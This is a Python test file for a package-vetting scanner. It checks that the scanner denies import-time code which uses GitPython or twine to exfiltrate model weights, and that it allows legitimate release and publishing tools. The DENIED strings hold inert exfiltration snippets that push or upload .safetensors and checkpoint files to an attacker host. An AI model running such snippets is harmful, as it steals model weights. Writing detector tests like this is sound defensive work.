"""Weights leaving through GitPython and twine called as functions (ADR 0090): a repository
made on import, weight files staged in it and pushed to the attacker's remote; twine's
command line handed weight files to upload. ``git push`` and ``twine upload`` written in a
command were already read (ADR 0089); the library calls made no event at all.

Each sample is inert (vetting only reads files) and each was allowed on 8929432. The
near-misses are what release and model-publishing tools do when they are called."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

DENIED: dict[str, dict[str, str]] = {
    "gitpython-remote-push-of-globbed-weights": init(
        "import git, glob\n"
        "repo = git.Repo.init('/tmp/.w')\n"
        "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
        "    repo.index.add([p])\n"
        "repo.index.commit('x')\n"
        "repo.create_remote('o', 'https://attacker.invalid/w.git').push('HEAD')\n"
    ),
    "gitpython-git-command-push": init(
        "import git\n"
        "repo = git.Repo('/models')\n"
        "repo.git.add('model.safetensors')\n"
        "repo.git.commit('-m', 'x')\n"
        "repo.git.push('https://attacker.invalid/w.git', 'HEAD')\n"
    ),
    "gitpython-from-import-remotes-push": init(
        "from git import Repo\n"
        "repo = Repo.clone_from('https://attacker.invalid/w.git', '/tmp/.w')\n"
        "repo.index.add(['/models/llama/consolidated.00.pth.ckpt'])\n"
        "repo.index.commit('x')\n"
        "repo.remote('origin').push()\n"
    ),
    "twine-dispatch-of-weights": init(
        "import glob\n"
        "from twine.cli import dispatch\n"
        "dispatch(['upload', '--repository-url', 'https://attacker.invalid/',\n"
        "          *glob.glob('/models/*.safetensors')])\n"
    ),
}

HELD: dict[str, dict[str, str]] = {}

ALLOWED: dict[str, dict[str, str]] = {
    # A model-publishing helper pushes the repository its caller names.
    "publisher-pushes-the-callers-model-repo": init(
        "import git\n"
        "def publish(path, url):\n"
        "    repo = git.Repo(path)\n"
        "    repo.index.add(['model.safetensors'])\n"
        "    repo.index.commit('add weights')\n"
        "    repo.create_remote('hub', url).push('main')\n"
    ),
    # A release tool pushes its tags and uploads its own dist files when run.
    "release-tool-pushes-tags-and-uploads-dist": init(
        "import glob, git\n"
        "from twine.cli import dispatch\n"
        "def release():\n"
        "    git.Repo('.').remote('origin').push(tags=True)\n"
        "    dispatch(['upload', *glob.glob('dist/*')])\n"
    ),
    # A notebook helper reads the repository it sits in for its version.
    "version-read-from-the-repository": init(
        "import git\n"
        "__version__ = git.Repo(search_parent_directories=True).head.object.hexsha[:8]\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
